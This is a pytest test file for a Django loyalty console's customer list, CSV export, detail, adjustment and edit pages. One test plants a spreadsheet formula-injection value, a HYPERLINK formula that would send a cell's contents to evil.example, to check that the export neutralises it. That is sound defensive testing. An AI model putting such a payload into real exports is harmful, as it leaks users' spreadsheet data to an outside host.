"""The customers pages (console.views.customers): list, filters, CSV export, detail, adjustments, edits."""

import csv
import io
import re

import pytest

from core.models import AuditEntry
from customers.models import Customer
from customers.services import customer_enrol
from loyalty import services
from loyalty.models import LedgerEntry, PointsAccount, Tier

pytestmark = pytest.mark.django_db


@pytest.fixture
def shop(program, t0):
    anna = customer_enrol(name="Anna Petrova", phone="+79123456789", email="anna@example.com")
    boris = customer_enrol(name="Boris Sidorov", phone="+79001112233")
    customer_enrol(name="Vera Never", phone="+79001112244")
    services.purchase_record(customer_id=anna.pk, amount="20000.00", now=t0)  # Silver, 1 000 points
    services.purchase_record(customer_id=boris.pk, amount="1000.00", now=t0)  # Bronze, 50 points
    return anna, boris


@pytest.mark.parametrize(
    ("who", "status"), [(None, 302), ("cashier_user", 403), ("marketing_user", 200), ("superuser", 200)]
)
@pytest.mark.parametrize("path", ["/customers/", "/customers/{id}/"])
def test_permission_matrix(client, request, customer, who, status, path):
    if who:
        client.force_login(request.getfixturevalue(who))
    response = client.get(path.format(id=customer.pk))
    assert response.status_code == status


@pytest.mark.parametrize("path", ["/customers/{id}/edit/", "/customers/{id}/adjust/"])
def test_cashier_cannot_post_changes(client, cashier_user, customer, path):
    client.force_login(cashier_user)
    response = client.post(path.format(id=customer.pk), {"points": "100", "reason": "x", "idempotency_key": "k"})
    assert response.status_code == 403
    assert not LedgerEntry.objects.exists()


class TestList:
    def names(self, page) -> list[str]:
        """The names in the list's rows, in order, from a response or its text."""
        text = page if isinstance(page, str) else page.content.decode()
        return re.findall(r'<td class="text-free"><a href="/customers/\d+/">([^<]+)</a></td>', text)

    def test_filters_by_tier_balance_and_never_bought(self, console, shop):
        anna, boris = shop
        silver = anna.tier_status.tier
        assert self.names(console.get("/customers/", {"tier": silver.pk})) == ["Anna Petrova"]
        assert self.names(console.get("/customers/", {"balance_min": "40", "balance_max": "100"})) == ["Boris Sidorov"]
        assert self.names(console.get("/customers/", {"never_bought": "true"})) == ["Vera Never"]
        assert self.names(console.get("/customers/", {"q": "8 900 111-22-33"})) == ["Boris Sidorov"]

    def test_phones_read_as_people_write_them(self, console, shop):
        page = console.get("/customers/").content.decode()
        assert "+7 912 345-67-89" in page and "+79123456789" not in page
        anna, _ = shop
        assert "+7 912 345-67-89 · " in console.get(f"/customers/{anna.pk}/").content.decode()

    def test_sort_by_balance(self, console, shop):
        names = self.names(console.get("/customers/", {"sort": "-balance"}))
        assert names == ["Anna Petrova", "Boris Sidorov", "Vera Never"]

    def test_csv_export_of_the_filtered_list(self, console, shop):
        response = console.get("/customers/", {"balance_min": "1", "sort": "name", "export": "csv"})
        assert response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert rows[0][:3] == ["Name", "Phone", "Card"]
        assert [(r[0], r[1], r[4], r[5]) for r in rows[1:]] == [
            ("Anna Petrova", "'+79123456789", "Silver", "1000"),  # "+…" would be a formula to a spreadsheet
            ("Boris Sidorov", "'+79001112233", "Bronze", "50"),
        ]

    def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(self, console, program, customer_factory):
        customer_factory(name='=HYPERLINK("http://evil.example/?"&A1,"Click")', email="-x@example.com")
        customer_factory(name="@SUM(1+1)")
        response = console.get("/customers/", {"sort": "name", "export": "csv"})
        rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
        assert [(r[0], r[3]) for r in rows[1:]] == [
            ('\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'-x@example.com"),
            ("'@SUM(1+1)", ""),
        ]

    def options(self, page: str, name: str) -> list[str]:
        select = re.search(rf'<select name="{name}".*?</select>', page, re.S).group(0)
        return re.findall(r"<option[^>]*>([^<]*)</option>", select)

    def test_yes_no_filters_say_any_yes_no_and_choice_filters_say_any(self, console, shop):
        page = console.get("/customers/").content.decode()
        for name in ("never_bought", "consent_email", "consent_sms"):
            assert self.options(page, name) == ["Any", "Yes", "No"]
        assert self.options(page, "tier") == ["Any", "Bronze", "Silver", "Gold"]
        assert "Unknown" not in page and "---------" not in page
        # "Any" keeps the filter off; "No" filters.
        assert len(self.names(console.get("/customers/", {"never_bought": ""}))) == 3
        assert self.names(console.get("/customers/", {"never_bought": "false", "sort": "name"})) == [
            "Anna Petrova",
            "Boris Sidorov",
        ]

    def test_the_filters_in_russian(self, console, shop):
        console.cookies["django_language"] = "ru"
        page = console.get("/customers/").content.decode()
        assert self.options(page, "never_bought") == ["Любой", "Да", "Нет"]
        assert self.options(page, "tier")[0] == "Любой"
        assert "Неизвестно" not in page and "---------" not in page

    def headers(self, page: str) -> dict[str, tuple[str, str]]:
        """{header text: (link, aria-sort)} of the list's columns, arrows included in the text."""
        thead = page.split('id="customers"')[1].split("</thead>")[0]
        found = {}
        for th in re.findall(r"<th[^>]*>.*?</th>", thead, re.S):
            text = re.sub(r"<[^>]+>", "", th).replace("&nbsp;", " ").strip()
            link = re.search(r'href="([^"]*)"', th)
            aria = re.search(r'aria-sort="([^"]*)"', th)
            found[text] = (link.group(1).replace("&amp;", "&") if link else "", aria.group(1) if aria else "")
        return found

    def test_a_header_sorts_by_its_column_and_a_second_click_reverses(self, console, shop):
        page = console.get("/customers/").content.decode()
        headers = self.headers(page)
        # Newest first until asked otherwise, and the header says so.
        assert headers["Joined ↓"] == ("?sort=joined", "descending")
        assert self.names(page) == ["Vera Never", "Boris Sidorov", "Anna Petrova"]
        assert headers["Phone"] == ("", "") and headers["Card"] == ("", "")  # identifiers do not sort
        page = console.get("/customers/" + headers["Balance ↕"][0]).content.decode()
        assert self.names(page) == ["Vera Never", "Boris Sidorov", "Anna Petrova"]  # 0, 50, 1 000 points
        headers = self.headers(page)
        assert headers["Balance ↑"] == ("?sort=-balance", "ascending") and "Joined ↕" in headers
        page = console.get("/customers/" + headers["Balance ↑"][0]).content.decode()
        assert self.names(page) == ["Anna Petrova", "Boris Sidorov", "Vera Never"]
        assert "Balance ↓" in self.headers(page)
        page = console.get("/customers/" + self.headers(page)["Name ↕"][0]).content.decode()
        assert self.names(page) == ["Anna Petrova", "Boris Sidorov", "Vera Never"]
        # Tiers sort by their order (Bronze, Silver, Gold); Vera, who never bought, holds the entry tier,
        # Bronze, like Boris (ties: the newer first when descending, the older first when ascending).
        assert self.names(console.get("/customers/", {"sort": "-tier"})) == [
            "Anna Petrova",
            "Vera Never",
            "Boris Sidorov",
        ]
        assert self.names(console.get("/customers/", {"sort": "tier"})) == [
            "Boris Sidorov",
            "Vera Never",
            "Anna Petrova",
        ]

    def test_a_customer_with_no_status_yet_shows_and_filters_as_the_entry_tier(self, console, shop):
        """Vera enrolled and never bought: the card, the overview and the list all say Bronze."""
        bronze = Tier.objects.get(code="bronze")
        assert self.names(console.get("/customers/", {"tier": bronze.pk})) == ["Vera Never", "Boris Sidorov"]
        page = console.get("/customers/", {"q": "Vera"}).content.decode()
        assert re.search(r'<span class="badge" data-bg="[^"]+">Bronze</span>', page)
        # Rows without a value come last both ways: Vera has never bought.
        page = console.get("/customers/", {"sort": "last_purchase"}).content.decode()
        assert self.names(page)[-1] == "Vera Never"
        page = console.get("/customers/", {"sort": "-last_purchase"}).content.decode()
        assert self.names(page)[-1] == "Vera Never"

    def test_an_unknown_sort_shows_the_default_order(self, console, shop):
        for value in ("phone", "-password", "name,balance"):
            page = console.get("/customers/", {"sort": value}).content.decode()
            assert self.names(page) == ["Vera Never", "Boris Sidorov", "Anna Petrova"]
            assert "Joined ↓" in self.headers(page)

    def test_the_sort_is_kept_with_the_filters_in_pages_headers_and_export(self, console, shop):
        page = console.get("/customers/", {"sort": "-balance"}).content.decode()
        assert '<input type="hidden" name="sort" value="-balance">' in page
        response = console.post("/customers/", {"balance_min": "1", "sort": "-balance"})
        token = response.url.split("f=")[1].split("&")[0]
        assert response.url == f"/customers/?f={token}&sort=-balance"
        page = console.get(response.url).content.decode()
        assert self.names(page) == ["Anna Petrova", "Boris Sidorov"]
        assert self.headers(page)["Balance ↓"][0] == f"?f={token}&sort=balance"
        assert f'href="?f={token}&amp;sort=-balance&amp;export=csv"' in page
        export = console.get(f"/customers/?f={token}&sort=balance&export=csv")
        rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
        assert [r[0] for r in rows[1:]] == ["Boris Sidorov", "Anna Petrova"]

    def test_the_headers_and_their_sort_hints_in_russian(self, console, shop):
        console.cookies["django_language"] = "ru"
        page = console.get("/customers/", {"sort": "balance"}).content.decode()
        assert list(self.headers(page)) == [
            "Имя ↕",
            "Телефон",
            "Карта",
            "Уровень ↕",
            "Баланс ↑",
            "Дата регистрации ↕",
            "Последняя покупка ↕",
        ]
        assert 'title="Сортировать по столбцу «Баланс», по убыванию"' in page
        assert 'title="Сортировать по столбцу «Имя», по возрастанию"' in page
        assert "descending" not in page.replace('aria-sort="ascending"', "").lower()
        assert "ascending" not in page.replace('aria-sort="ascending"', "").lower()

    def test_bad_filter_values_say_so(self, console, shop):
        page = console.get("/customers/", {"balance_min": "lots"}).content.decode()
        assert "Enter a whole number." in page

    def test_a_balance_range_typed_with_grouped_thousands(self, console, shop):
        """Anna has 1 000 points, Boris 50: "1 000"–"2 000" (as a Russian types it) finds Anna."""
        assert self.names(console.get("/customers/", {"balance_min": "1 000", "balance_max": "2 000"})) == [
            "Anna Petrova"
        ]

    @pytest.mark.parametrize("query", ["²", "²²²²", "#²", "٤٥٦٧"])
    def test_non_ascii_digits_find_nobody_not_a_server_error(self, console, shop, query):
        """ "²".isdigit() is True but int("²") raises; Arabic-Indic "٤٥٦٧" is no phone ending either."""
        response = console.post("/customers/", {"q": query}, follow=True)
        assert response.status_code == 200
        assert self.names(response) == []

    def test_a_search_far_too_long_is_refused_not_a_server_error(self, console, shop):
        response = console.post("/customers/", {"q": "а" * 50_000}, follow=True)
        assert response.status_code == 200
        assert "Ensure this value has at most 100 characters (it has 1000)." in response.content.decode()
        assert len(str(console.session["console_customer_filters"])) < 2_000

    @pytest.mark.parametrize(
        ("query", "found"),
        [
            ("Семенова", ["Алёна Семёнова"]),  # е finds ё
            ("семёнова алёна", ["Алёна Семёнова"]),  # surname first, any case
            ("4567", ["Алёна Семёнова"]),  # the last 4 digits
            ("Семенова 4567", ["Алёна Семёнова"]),
            ("9000004567", ["Алёна Семёнова"]),  # most of the phone
            ("ова", ["Алёна Семёнова"]),  # a part of the name
        ],
    )
    def test_the_search_finds_what_the_till_finds(self, console, shop, query, found):
        customer_enrol(name="Алёна Семёнова", phone="+7 900 000-45-67")
        assert self.names(console.post("/customers/", {"q": query}, follow=True)) == found


class TestDetail:
    def test_page_shows_balance_tier_progress_lots_ledger_purchases(self, console, shop):
        anna, _ = shop
        page = console.get(f"/customers/{anna.pk}/").content.decode()
        assert 'id="balance">1,000<' in page
        assert "Silver" in page and "Spend 30,000.00\u00a0₽ more to reach Gold" in page
        assert "Cashback 5% on purchase" in page  # the ledger reason
        assert "20,000.00\u00a0₽" in page

    def test_in_russian_the_ledger_reasons_written_in_english_read_in_russian(self, console, shop):
        anna, _ = shop
        console.cookies["django_language"] = "ru"
        page = console.get(f"/customers/{anna.pk}/").content.decode()
        assert "Кешбэк 5% за покупку" in page and "Cashback 5% on purchase" not in page
        assert 'id="balance">1\u00a0000<' in page

    def test_manual_adjustment_shows_in_the_ledger_and_is_audited(self, console, shop, marketing_user):
        anna, _ = shop
        response = console.post(
            f"/customers/{anna.pk}/adjust/",
            {"points": "-200", "reason": "Returned gift card", "idempotency_key": "adj-1"},
            follow=True,
        )
        page = response.content.decode()
        assert "-200 points: Returned gift card" in page
        assert 'id="balance">800<' in page
        assert AuditEntry.objects.get(action="points.adjust").actor == marketing_user
        # A resubmitted form does not adjust twice.
        console.post(
            f"/customers/{anna.pk}/adjust/",
            {"points": "-200", "reason": "Returned gift card", "idempotency_key": "adj-1"},
        )
        assert PointsAccount.objects.get(pk=anna.pk).balance == 800

    @pytest.mark.parametrize(
        ("data", "message"),
        [
            ({"points": "0", "reason": "x"}, "Points cannot be zero."),
            ({"points": "50", "reason": ""}, "This field is required."),
            ({"points": "abc", "reason": "x"}, "Enter a whole number."),
            ({"points": "10001", "reason": "x"}, "limited to 10,000 points"),
            ({"points": "-5000", "reason": "x"}, "the customer has 1,000"),
        ],
    )
    def test_bad_adjustments_are_refused(self, console, shop, data, message):
        anna, _ = shop
        response = console.post(f"/customers/{anna.pk}/adjust/", data | {"idempotency_key": "adj-x"})
        assert response.status_code == 400
        assert message in response.content.decode()
        assert PointsAccount.objects.get(pk=anna.pk).balance == 1000

    def test_profile_edit_and_duplicate_phone(self, console, shop):
        anna, boris = shop
        data = {
            "name": "Anna P.", "phone": "8 912 345 67 89", "email": "anna@example.com", "consent_sms": "on",
            "language": "en",
        }  # fmt: skip
        assert console.post(f"/customers/{anna.pk}/edit/", data).status_code == 302
        anna.refresh_from_db()
        assert (anna.name, anna.consent_sms) == ("Anna P.", True)
        assert AuditEntry.objects.filter(action="customer.update").count() == 1
        response = console.post(f"/customers/{boris.pk}/edit/", data | {"email": ""})
        assert response.status_code == 400
        assert "A customer with phone +79123456789 already exists." in response.content.decode()
        assert Customer.objects.get(pk=boris.pk).phone == "+79001112233"

    def profile(self, customer, **changes) -> dict:
        """The profile form as the page posts it: every field with its current value, then `changes`."""
        data = {
            "name": customer.name,
            "phone": customer.phone,
            "email": customer.email or "",
            "language": customer.language,
        }
        return data | changes

    def test_the_page_shows_the_language_and_the_form_offers_both_with_hers_chosen(self, console, shop):
        anna, _ = shop
        page = console.get(f"/customers/{anna.pk}/").content.decode()
        assert "Language of messages: English" in page
        assert re.search(r'<option value="en" selected>English</option>\s*<option value="ru">Russian</option>', page)
        console.cookies["django_language"] = "ru"
        page = console.get(f"/customers/{anna.pk}/").content.decode()  # the language's name in Russian
        assert re.search(r'id="customer-language">[^<]*: Английский</div>', page)

    def test_the_language_is_changed_on_the_customer_page_and_audited(self, console, shop, marketing_user):
        anna, _ = shop
        response = console.post(f"/customers/{anna.pk}/edit/", self.profile(anna, language="ru"), follow=True)
        page = response.content.decode()
        assert "Profile saved." in page and "Language of messages: Russian" in page
        assert re.search(r'<option value="ru" selected>Russian</option>', page)
        anna.refresh_from_db()
        assert anna.language == "ru"
        entry = AuditEntry.objects.get(action="customer.update")
        assert (entry.changes, entry.actor) == ({"language": ["en", "ru"]}, marketing_user)
        audit = console.get("/audit/").content.decode()
        assert "Language: English → Russian" in audit

    @pytest.mark.parametrize("language", ["de", "", "RU", "en-us"])
    def test_a_language_not_offered_is_a_form_error_and_changes_nothing(self, console, shop, language):
        anna, _ = shop
        response = console.post(f"/customers/{anna.pk}/edit/", self.profile(anna, name="Anna P.", language=language))
        assert response.status_code == 400
        page = response.content.decode()
        reason = (
            "This field is required."
            if not language
            else f"Select a valid choice. {language} is not one of the available choices."
        )
        assert reason in page
        anna.refresh_from_db()
        assert (anna.name, anna.language) == ("Anna Petrova", "en")
        assert not AuditEntry.objects.filter(action="customer.update").exists()


class TestDjangoAdmin:
    """Django admin never writes around the services (issue #11): customers are read-only there."""

    def test_a_superuser_cannot_change_a_customer_in_admin(self, client, superuser, customer, customer_factory):
        other = customer_factory(name="Boris", phone="+7 900 111-22-33")
        client.force_login(superuser)
        page = client.get(f"/admin/customers/customer/{customer.pk}/change/")
        assert page.status_code == 200 and "Anna Petrova" in page.content.decode()
        response = client.post(
            f"/admin/customers/customer/{customer.pk}/change/",
            {"name": "Anna", "phone": " 79001112233", "card_number": customer.card_number},
        )
        assert response.status_code == 403
        customer.refresh_from_db()
        assert (customer.name, customer.phone) == ("Anna Petrova", "+79123456789")
        assert other.phone == "+79001112233"
        assert not AuditEntry.objects.filter(action="customer.update").exists()


class TestSearchKeepsPhonesOutOfUrls:
    """The list's search form is POSTed; the filters live in the session under a token (issue #11)."""

    def test_a_phone_search_redirects_to_a_token_and_pages_and_export_keep_it(self, console, shop):
        response = console.post("/customers/", {"q": "+7 900 111-22-33", "sort": "name"})
        assert response.status_code == 302
        assert "900" not in response.url and response.url.startswith("/customers/?f=")
        page = console.get(response.url).content.decode()
        assert "Boris Sidorov" in page and "Anna Petrova" not in page
        links = re.findall(r'href="([^"]*)"', page)
        assert links and not [link for link in links if "111" in link or "900" in link]  # no phone in links
        token = response.url.split("f=")[1].split("&")[0]
        assert response.url == f"/customers/?f={token}&sort=name"  # the order is no personal data
        assert f'href="?f={token}&amp;sort=name&amp;export=csv"' in page
        export = console.get(f"/customers/?f={token}&export=csv")
        rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
        assert [r[0] for r in rows[1:]] == ["Boris Sidorov"]

    def test_an_unknown_token_shows_everyone_and_says_so(self, console, shop):
        page = console.get("/customers/?f=nope").content.decode()
        assert "Anna Petrova" in page and "Boris Sidorov" in page
        assert "This link&#x27;s filter is no longer kept" in page  # a link from another session: not silent
        token_page = console.get(console.post("/customers/", {"q": "Boris"}).url).content.decode()
        assert "no longer kept" not in token_page
